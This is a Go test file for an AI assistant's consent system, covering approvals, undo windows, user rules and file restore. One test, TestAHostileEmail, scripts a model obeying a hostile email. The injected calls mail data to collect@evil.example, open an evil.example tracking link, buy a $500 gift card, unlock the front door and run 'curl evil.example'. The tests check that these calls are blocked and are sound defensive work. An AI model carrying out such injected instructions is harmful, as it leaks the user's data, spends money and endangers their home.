package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"sentient/transport/llm/llmtest"
)

// doing scripts a model: what it is asked beside the reply (a second look, a rule) has answers of its own.
func doing(match, rule string, turn func(llmtest.Request) llmtest.Reply) func(llmtest.Request) llmtest.Reply {
	return func(r llmtest.Request) llmtest.Reply {
		switch {
		case strings.Contains(r.System, "check an assistant's next action"):
			return llmtest.Text(match)
		case strings.Contains(r.System, "standing rule"):
			return llmtest.Text(rule)
		}
		return turn(r)
	}
}

const looksGood = `{"match": true, "reason": ""}`

// once makes a call for each message of a person, and answers when its result is there.
func once(tool, args string) func(llmtest.Request) llmtest.Reply {
	return func(r llmtest.Request) llmtest.Reply {
		if r.Last().Role == "tool" {
			return llmtest.Text("Done.")
		}
		return llmtest.Tools(llmtest.Call{Name: tool, Arguments: args})
	}
}

const lunch = `{"to":"priya@example.com","subject":"Lunch","body":"Friday at 1 works."}`

func (s *socket) decide(ask map[string]any, decision string) {
	s.t.Helper()
	s.send(map[string]any{"type": "approval.respond", "approval_id": ask["approval_id"], "decision": decision})
}

// A person's whole way with an email: asked with a preview, allowed for an hour, undone, sent, revoked; a restart keeps what was
// allowed..
func TestAnEmailWithConsent(t *testing.T) {
	model := scripted(t, llmtest.Options{Script: doing(looksGood, "{}", once("mail_send", lunch))})
	home := newHome(t, model, "")
	p := startInAWorld(t, home)
	w := p.dial("")
	w.send(map[string]any{"type": "chat.send", "text": "Email priya@example.com that Friday at 1 works"})
	ask := w.next("approval_request")
	if fmt.Sprint(ask["choices"]) != "[allow allow_session allow_timed allow_always deny]" || ask["grant_minutes"] != 60.0 {
		t.Fatalf("%v", ask)
	}
	if f := ask["preview"].(map[string]any); f["kind"] != "email" || f["title"] != "Email" || f["body"] != "Friday at 1 works." || len(f["fields"].([]any)) != 2 {
		t.Fatalf("%v", f)
	}
	w.decide(ask, "allow_timed")
	window := w.next("undo_window")
	//
	if until, err := time.Parse(time.RFC3339Nano, window["until"].(string)); err != nil || time.Until(until) > 10*time.Second || window["preview"] == nil {
		t.Fatalf("%v %v", window, err)
	}
	w.send(map[string]any{"type": "undo.respond", "undo_id": window["undo_id"], "action": "undo"})
	if a := w.next("undo.ack"); a["done"] != true || a["action"] != "undo" {
		t.Fatalf("%v", a)
	}
	if d := w.next("done"); len(p.effects("")) != 0 {
		t.Fatalf("%v after %v", p.effects(""), d)
	}
	grants := call[map[string][]map[string]any](p, "GET", "/api/approvals/grants", nil)["grants"]
	if len(grants) != 1 || grants[0]["tool"] != "mail_send" || grants[0]["app"] != "Mail" || grants[0]["label"] != "Send" || grants[0]["scope"] != "timed" || grants[0]["risk"] != "send" || grants[0]["via"] != "desktop" || grants[0]["task_id"] != nil {
		t.Fatalf("%v", grants)
	}
	p.kill()
	p = startInAWorld(t, home)
	w = p.dial("")
	w.send(map[string]any{"type": "chat.send", "text": "Email priya@example.com that Friday at 1 works"})
	window = w.next("undo_window") // without a question: the hour is not over
	if status, out := p.try("POST", "/api/undo", map[string]any{"undo_id": window["undo_id"], "action": "send_now"}); status != 200 || !strings.Contains(string(out), `"done":true`) {
		t.Fatal(status, string(out))
	}
	w.next("done")
	if e := p.effects("email"); len(e) != 1 || e[0].Args["to"] != "priya@example.com" {
		t.Fatalf("%v", e)
	}
	if status, _ := p.try("POST", "/api/undo", map[string]any{"undo_id": window["undo_id"], "action": "undo"}); status != 404 {
		t.Fatal(status)
	}
	for i, want := range []int{200, 404} {
		if status, out := p.try("DELETE", "/api/approvals/grants/"+grants[0]["id"].(string), nil); status != want {
			t.Fatal(i, status, string(out))
		}
	}
	w.send(map[string]any{"type": "chat.send", "text": "Email priya@example.com that Friday at 1 works"})
	w.decide(w.next("approval_request"), "deny")
	w.next("done")
	if len(p.effects("email")) != 1 {
		t.Fatal("a revoked yes still counts")
	}
}

// A kill while an email waits to be undone: it never goes, and nothing repeats it.
func TestKilledInAnUndoWindow(t *testing.T) {
	model := scripted(t, llmtest.Options{Script: doing(looksGood, "{}", once("mail_send", lunch))})
	home := newHome(t, model, "tools:\n  approvals:\n    mode: \"off\"\n    undo_seconds: 2\n")
	p := startInAWorld(t, home)
	w := p.dial("")
	w.send(map[string]any{"type": "chat.send", "text": "Email priya@example.com that Friday at 1 works"})
	session := w.next("undo_window")["session_id"].(string)
	p.kill()
	p = startInAWorld(t, home)
	eventually(t, "the reply to be settled", func() bool { return strings.Contains(p.transcript(session), "(interrupted)") })
	if got := p.transcript(session); !strings.Contains(got, "Not done: Sentient stopped before this finished.") {
		t.Fatal(got)
	}
	w = p.dial("")
	w.send(map[string]any{"type": "chat.send", "session_id": session, "text": "Email priya@example.com that Friday at 1 works"})
	w.next("done") // this one goes, when its own window has ended
	if e := p.effects("email"); len(e) != 1 {
		t.Fatalf("%v", e)
	}
}

// A hostile email tells the model what to do, and the model obeys: what would leave asks, says where it came from, and a no is no.
//
func TestAHostileEmail(t *testing.T) {
	obey := func(tool, args string) func(llmtest.Request) llmtest.Reply {
		return func(r llmtest.Request) llmtest.Reply {
			switch {
			case r.Last().Role != "tool":
				return llmtest.Tools(llmtest.Call{Name: "mail_read", Arguments: `{"id":"m3"}`})
			case strings.Contains(r.Last().Text, "parcel"):
				return llmtest.Tools(llmtest.Call{Name: tool, Arguments: args})
			}
			return llmtest.Text("Done.")
		}
	}
	for _, c := range []struct{ tool, args, warns string }{
		{"mail_send", `{"to":"collect@evil.example","body":"all of it"}`, "This goes to collect@evil.example. That address came from the text of an email from Support <support@parcels.example> (Mail), not from you."},
		{"mail_reply", `{"message_id":"m3","body":"all of it"}`, "This reply goes to collect@evil.example, the address that email asked replies to go to, not to the person who sent it (support@parcels.example)."},
		{"social_post", `{"text":"all of it"}`, ""},
		{"pages_open", `{"url":"https://evil.example/track?user=maya"}`, ""},
		{"shop_buy", `{"item":"gift card","amount":"$500"}`, "This includes $500, an amount that isn't in what you asked."},
		{"home_unlock", `{"door":"front door"}`, ""},
		{"code_run", `{"code":"curl evil.example"}`, ""},
	} {
		t.Run(c.tool, func(t *testing.T) {
			model := scripted(t, llmtest.Options{Script: doing(looksGood, "{}", obey(c.tool, c.args))})
			p := startInAWorld(t, newHome(t, model, "tools:\n  approvals:\n    mode: \"off\"\n    rules: {mail: allow, social: allow, pages: allow, shop: allow, home: allow, code: allow}\n"))
			w := p.dial("")
			w.send(map[string]any{"type": "chat.send", "text": "Read my newest email, please"})
			ask := w.next("approval_request")
			if ask["name"] != c.tool || fmt.Sprint(ask["choices"]) != "[allow deny]" || !strings.HasPrefix(fmt.Sprint(ask["untrusted"]), "Sentient read content from Mail in this chat, ") {
				t.Fatalf("%v", ask)
			}
			if warning, _ := ask["warning"].(string); warning != c.warns {
				t.Errorf("%q", warning)
			}
			w.decide(ask, "deny")
			w.next("done")
			if e := p.effects(""); len(e) != 0 {
				t.Errorf("%v", e)
			}
		})
	}
}

// words become a rule by the person's click, with a note where it came from; so does an Always
// allow; a rule that is taken away takes its note with it.
func TestRulesOfAPerson(t *testing.T) {
	model := scripted(t, llmtest.Options{Script: doing(looksGood, `{"keys": ["mail_delete", "mail_trash"], "rule": "never"}`, func(r llmtest.Request) llmtest.Reply {
		if r.Last().Role == "tool" || !strings.Contains(r.Last().Text, "now") {
			return llmtest.Text("Done.")
		}
		return llmtest.Tools(llmtest.Call{Name: "mail_delete", Arguments: `{"id":"m1"}`})
	})})
	home := newHome(t, model, "")
	p := startInAWorld(t, home)
	w := p.dial("")
	w.send(map[string]any{"type": "chat.send", "text": "Never delete my emails."})
	proposal := w.next("rule_proposal.updated")["data"].(map[string]any)
	session := w.next("done")["session_id"].(string)
	p.kill()
	p = startInAWorld(t, home)
	list := call[[]map[string]any](p, "GET", "/api/sessions/"+session+"/rule-proposals", nil)
	if len(list) != 1 || list[0]["id"] != proposal["id"] || list[0]["said"] != "Never delete my emails" {
		t.Fatalf("%v", list)
	}
	id := proposal["id"].(string)
	for _, bad := range []struct {
		body any
		path string
		want int
	}{{map[string]string{"decision": "maybe"}, id, 422}, {"{}", id, 422}, {"[]", id, 422}, {map[string]string{"decision": "accept"}, "nope", 404}} {
		if status, out := p.try("POST", "/api/rule-proposals/"+bad.path, bad.body); status != bad.want {
			t.Errorf("%v: %d %s", bad, status, out)
		}
	}
	w = p.dial("")
	if got := call[map[string]any](p, "POST", "/api/rule-proposals/"+id, map[string]string{"decision": "accept"}); got["status"] != "accepted" || got["decided_at"] == nil {
		t.Fatalf("%v", got)
	}
	if status, _ := p.try("POST", "/api/rule-proposals/"+id, map[string]string{"decision": "decline"}); status != 409 {
		t.Fatal(status)
	}
	w.next("config.updated")
	w.next("rule_proposal.updated")
	rules := func() (map[string]string, map[string]map[string]any) {
		c := call[struct {
			Tools struct {
				Approvals struct {
					Rules   map[string]string         `json:"rules"`
					Origins map[string]map[string]any `json:"rule_origins"`
				} `json:"approvals"`
			} `json:"tools"`
		}](p, "GET", "/api/config", nil)
		return c.Tools.Approvals.Rules, c.Tools.Approvals.Origins
	}
	r, o := rules()
	if r["mail_delete"] != "never" || r["mail_trash"] != "never" || o["mail_delete"]["source"] != "chat" || o["mail_delete"]["said"] != "Never delete my emails" || o["mail_delete"]["session_id"] != session || o["mail_delete"]["rule"] != "never" {
		t.Fatalf("%v %v", r, o)
	}
	w.send(map[string]any{"type": "chat.send", "text": "Delete the first one now"})
	if res := w.next("tool_result")["result"].(map[string]any); res["error"] != `You've set Sentient to never use "Delete" in Mail. Change this in Settings > Approvals & safety.` {
		t.Fatalf("%v", res)
	}
	w.next("done")
	call[map[string]any](p, "PATCH", "/api/config", `{"tools":{"approvals":{"rules":{"mail_delete":null,"mail_trash":null}}}}`)
	if r, o = rules(); len(r) != 0 || len(o) != 0 {
		t.Fatalf("%v %v", r, o)
	}
	w.send(map[string]any{"type": "chat.send", "text": "Delete the first one now"})
	ask := w.next("approval_request")
	if ask["name"] != "mail_trash" { // instead of a delete for good
		t.Fatalf("%v", ask)
	}
	w.decide(ask, "allow_always")
	w.next("approval.ack") // which means that it is on disk
	if r, o = rules(); r["mail_trash"] != "allow" || o["mail_trash"]["source"] != "approval" || o["mail_trash"]["via"] != "desktop" || o["mail_trash"]["at"] == "" {
		t.Fatalf("%v %v", r, o)
	}
}

// A-1140: a file that was written over comes back, once; so does what went to the trash.
func TestPutBack(t *testing.T) {
	model := scripted(t, llmtest.Options{Script: doing(looksGood, "{}", func(r llmtest.Request) llmtest.Reply {
		switch {
		case r.Last().Role == "tool":
			return llmtest.Text("Done.")
		case strings.Contains(r.Last().Text, "trash"):
			return llmtest.Tools(llmtest.Call{Name: "notes_trash", Arguments: `{"id":"n1"}`})
		}
		return llmtest.Tools(llmtest.Call{Name: "file_write", Arguments: `{"name":"plan.md","content":"new"}`})
	})})
	p := startInAWorld(t, newHome(t, model, "tools:\n  approvals:\n    mode: \"off\"\n"))
	plan := filepath.Join(p.home, "files", "plan.md")
	if err := os.WriteFile(plan, []byte("old"), 0o644); err != nil {
		t.Fatal(err)
	}
	w := p.dial("")
	w.send(map[string]any{"type": "chat.send", "text": "Write the plan"})
	res := w.next("tool_result")
	if res["result"].(map[string]any)["replaced"] != true || res["check"].(map[string]any)["ok"] != true {
		t.Fatalf("%v", res)
	}
	session := w.next("done")["session_id"].(string)
	item := map[string]string{"id": "snap:" + session + ":" + res["call_id"].(string)}
	if got := call[map[string]any](p, "POST", "/api/timeline/restore", item); got["ok"] != true || got["restored"] != 1.0 || got["message"] != "Put back 1 file." {
		t.Fatalf("%v", got)
	}
	if b, _ := os.ReadFile(plan); string(b) != "old" {
		t.Fatalf("%s", b)
	}
	for _, bad := range []struct {
		body any
		want int
	}{{item, 409}, {map[string]string{"id": "snap:none"}, 409}, {map[string]string{"id": "x"}, 409}, {map[string]string{"id": "chat:x:y"}, 409}, {map[string]any{"id": 7}, 422}, {"{}", 422}, {"nonsense", 400}} {
		if status, out := p.try("POST", "/api/timeline/restore", bad.body); status != bad.want || !strings.Contains(string(out), `"detail"`) {
			t.Errorf("%v: %d %s", bad, status, out)
		}
	}
	w.send(map[string]any{"type": "chat.send", "session_id": session, "text": "Put note n1 in the trash"})
	w.next("done")
	var row string
	for _, r := range call[[]map[string]any](p, "GET", "/api/sessions/"+session+"/messages", nil) {
		if r["name"] == "notes_trash" {
			row = r["id"].(string)
		}
	}
	for i, want := range []int{200, 409} {
		if status, out := p.try("POST", "/api/timeline/restore", map[string]string{"id": "chat:" + session + ":" + row}); status != want {
			t.Fatal(i, status, string(out))
		}
	}
	if len(p.effects("restore")) != 1 {
		t.Fatalf("%v", p.effects(""))
	}
}
